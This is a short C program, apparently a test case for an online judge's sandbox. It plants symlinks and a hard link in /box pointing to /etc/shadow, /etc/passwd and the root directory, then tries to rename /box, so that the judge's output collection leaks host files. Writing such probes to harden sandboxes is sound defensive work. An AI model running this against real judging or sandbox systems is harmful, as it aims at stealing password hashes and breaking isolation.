/* Plants links in /box to host files, hoping the judge follows them when collecting
 * "leak", "out" and "main"; also tries to replace /box itself. */
#include <stdio.h>
#include <unistd.h>
int main(void) {
    unlink("/box/main");
    int a = symlink("/etc/shadow", "/box/leak");
    int b = symlink("/etc/passwd", "/box/main");
    int c = link("/etc/passwd", "/box/hard");
    int d = rename("/box", "/tmp/moved");
    int e = symlink("/", "/box/root");
    printf("%d %d %d %d %d\n", a, b, c, d, e);
    return 0;
}
